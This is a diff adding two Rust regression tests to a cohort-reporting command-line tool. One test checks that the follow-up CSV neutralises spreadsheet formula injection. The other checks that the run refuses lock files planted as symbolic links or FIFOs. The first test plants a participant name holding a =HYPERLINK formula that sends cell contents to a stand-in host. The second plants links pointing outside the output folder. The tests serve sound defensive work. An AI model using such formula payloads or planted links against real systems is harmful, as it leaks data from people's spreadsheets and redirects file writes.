@@ -974,3 +974,128 @@ fn templates_dump_never_writes_through_a_link() {
         "written into the link's target"
     );
 }
+
+/// The clinician follow-up list's CSV carries each participant's name from `profile.yaml`: a
+/// name that begins like a spreadsheet formula was written raw (`=HYPERLINK(…)` ran when the
+/// nurse opened `followup.csv`), the one CSV that did not go through the guarded writer.
+#[test]
+fn a_name_written_as_a_formula_reaches_the_followup_csv_as_text() {
+    let t = ProgramTest::sample();
+    let yaml = t.dir.join("program.yaml");
+    let text = std::fs::read_to_string(&yaml).unwrap();
+    std::fs::write(
+        &yaml,
+        format!("{text}\nfollowup:\n  recipient: \"Nurse\"\n"),
+    )
+    .unwrap();
+    // SG-010 is flagged (low intake) in the sample's September.
+    set_profile_line(
+        &t,
+        "SG-010",
+        "name",
+        r#"name: "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")""#,
+    );
+    let o = out(&t);
+    let r = t.run(&[
+        "run",
+        "{dir}",
+        "--as-of",
+        AS_OF,
+        "--formats",
+        "html",
+        "--out",
+        &o,
+    ]);
+    assert_eq!(r.code, 4, "{}", r.stderr);
+    let mut rd = csv::Reader::from_path(Path::new(&o).join("followup/followup.csv")).unwrap();
+    let names: Vec<String> = rd
+        .records()
+        .map(|r| r.unwrap())
+        .filter(|r| &r[0] == "SG-010")
+        .map(|r| r[1].to_string())
+        .collect();
+    assert!(!names.is_empty(), "SG-010 is on the list");
+    for n in names {
+        assert_eq!(n, r#"'=HYPERLINK("http://x.example/?"&A1,"open")"#);
+    }
+}
+
+/// The run's two lock files (`.NAME.lock` beside the output folder, `ledger.lock` in the
+/// ledger's folder) were opened with create-and-write, following a link planted under their
+/// name: a dangling link made the run create a file wherever it pointed, outside the output
+/// folder (in a shared folder, anyone can plant one for a cron job to follow). Neither is
+/// followed now; the run stops before writing anything, and says which link to remove.
+#[cfg(unix)]
+#[test]
+fn lock_files_are_never_opened_through_a_link() {
+    let t = ProgramTest::demo(2);
+    let base = t.dir.parent().unwrap();
+    let elsewhere = base.join("elsewhere");
+    std::fs::create_dir(&elsewhere).unwrap();
+    let o = out(&t);
+    let run = || {
+        t.run(&[
+            "run",
+            "{dir}",
+            "--as-of",
+            AS_OF,
+            "--formats",
+            "html",
+            "--out",
+            &o,
+        ])
+    };
+
+    std::os::unix::fs::symlink(elsewhere.join("made-by-lock"), base.join(".out.lock")).unwrap();
+    let r = run();
+    assert_eq!(
+        r.code,
+        cohortpress::exit_code::OUTPUT_FAILED,
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains(".out.lock"), "{}", r.stderr);
+    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
+    assert!(!elsewhere.join("made-by-lock").exists());
+    assert!(!Path::new(&o).exists(), "nothing was published");
+
+    std::fs::remove_file(base.join(".out.lock")).unwrap();
+    let ledger = base.join("out.ledger");
+    std::fs::create_dir(&ledger).unwrap();
+    std::os::unix::fs::symlink(elsewhere.join("made-by-ledger"), ledger.join("ledger.lock"))
+        .unwrap();
+    let r = run();
+    assert_eq!(
+        r.code,
+        cohortpress::exit_code::OUTPUT_FAILED,
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("ledger.lock"), "{}", r.stderr);
+    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
+    assert!(!elsewhere.join("made-by-ledger").exists());
+    assert!(!Path::new(&o).exists(), "nothing was published");
+    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
+
+    // A FIFO under the lock's name made the run wait for ever for a reader (a cron job that
+    // never ends); it is refused like any file that is not a regular one.
+    std::fs::remove_file(ledger.join("ledger.lock")).unwrap();
+    std::fs::remove_file(base.join(".out.lock")).unwrap();
+    let fifo = Command::new("mkfifo")
+        .arg(base.join(".out.lock"))
+        .status()
+        .unwrap();
+    assert!(fifo.success());
+    let r = run();
+    assert_eq!(
+        r.code,
+        cohortpress::exit_code::OUTPUT_FAILED,
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("not a regular file"), "{}", r.stderr);
+    std::fs::remove_file(base.join(".out.lock")).unwrap();
+
+    // With the link gone the run goes ahead.
+    assert_eq!(run().code, cohortpress::exit_code::SUCCESS);
+}
